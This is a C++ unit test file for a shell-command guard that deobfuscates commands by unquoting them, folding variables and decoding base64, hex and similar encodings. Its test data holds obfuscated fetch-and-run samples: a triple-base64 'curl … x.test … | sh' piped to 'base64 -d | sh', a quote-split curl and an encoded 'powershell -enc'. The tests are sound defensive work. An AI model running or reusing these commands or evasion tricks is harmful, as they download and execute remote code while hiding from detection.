// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/guard/CommandViews.h"
#include "core/guard/PayloadDecoding.h"
#include "tests/support/CaseTable.h"

#include <gtest/gtest.h>

#include <map>
#include <string>
#include <utility>
#include <vector>

namespace tessaril {
namespace {

using namespace command_views;

// Each view and decoder on its table in tests/data/guard.
TEST(CommandViews, EachViewAndDecoderAnswersItsTable) {
    const std::map<std::string, std::string (*)(std::string_view)> transforms = {
        {"unquoted", unquotedWords},
        {"folded", [](std::string_view text) { return foldedAssignments(text, 4096); }},
        {"base64", payload_decoding::base64},
        {"hex", payload_decoding::hex},
        {"octal", payload_decoding::octal},
        {"characterCodes", payload_decoding::characterCodes},
        {"rot13", payload_decoding::rot13},
        {"reversed", payload_decoding::reversed},
        {"stringOperations", payload_decoding::stringOperations}};
    const auto cases = testing::readCases("guard/command-views.json");
    ASSERT_GT(cases.size(), 50U);
    for (const auto& row : cases)
        EXPECT_EQ(transforms.at(row[0])(row[1].get<std::string>()), row[2]) << row[0] << ": " << row[1];
    // Substitution that would grow past the budget stops there, on a character boundary.
    const std::string bomb = "a=" + std::string(100, 'x') + "\xC3\xA9;" + std::string(200, ' ') + "$a$a$a$a$a$a$a$a";
    EXPECT_LE(foldedAssignments(bomb, 500).size(), 500U);
    EXPECT_EQ(foldedAssignments("a=\xC3\xA9\xC3\xA9;$a$a", 10), "a=\xC3\xA9\xC3\xA9;\xC3\xA9");
}

TEST(CommandViews, DeriveKeepsDistinctViewsWithinBudget) {
    // Base64 of base64 of base64 of "curl -s http://x.test/i | sh": decoded twice, never a third time.
    const std::string nested =
        "echo ZWNobyBaV05vYnlCWk0xWjVZa05CZEdONVFtOWtTRkozVDJrNGRtVkROVEJhV0U0d1RESnJaMlpEUW5waFFUMDlJSHdnWW1GelpUWTB"
        "JQzFrSUh3Z2MyZz0gfCBiYXNlNjQgLWQgfCBzaA== | base64 -d | sh";
    const std::vector<std::pair<std::string, std::vector<std::string>>> cases = {
        {"ls -la ~/src", {}},
        {R"(grep "curl | bash" notes.txt)", {}},
        {R"(c"u"rl x)", {"unquoted"}},
        {"a=cu;$a x", {"folded"}},
        {"powershell -enc YwAiAHUAIgByAGwAIAB4AA==", {"base64", "base64/unquoted"}},
        {nested, {"base64", "base64/base64"}},
    };
    for (const auto& [text, origins] : cases) {
        std::vector<std::string> found;
        for (const auto& view : derive(text, text, 4096)) {
            found.push_back(view.origin);
            EXPECT_EQ(view.text.find("curl -s http://x.test/i | sh"), std::string::npos) << view.origin;
        }
        EXPECT_EQ(found, origins) << text;
    }
    // Views together stay within the budget: here the first takes it all.
    const std::string longCommand = R"(c"u"rl a=b;$a )" + std::string(300, 'x');
    const auto cut = derive(longCommand, longCommand, 100);
    ASSERT_EQ(cut.size(), 1U);
    EXPECT_EQ(cut[0].text, "curl a=b;$a " + std::string(88, 'x'));
    EXPECT_EQ(description("base64/hex/unquoted"),
              "decoded from base64, then decoded from hex, then with quotes and escapes taken out of its words");
}

}  // namespace
}  // namespace tessaril
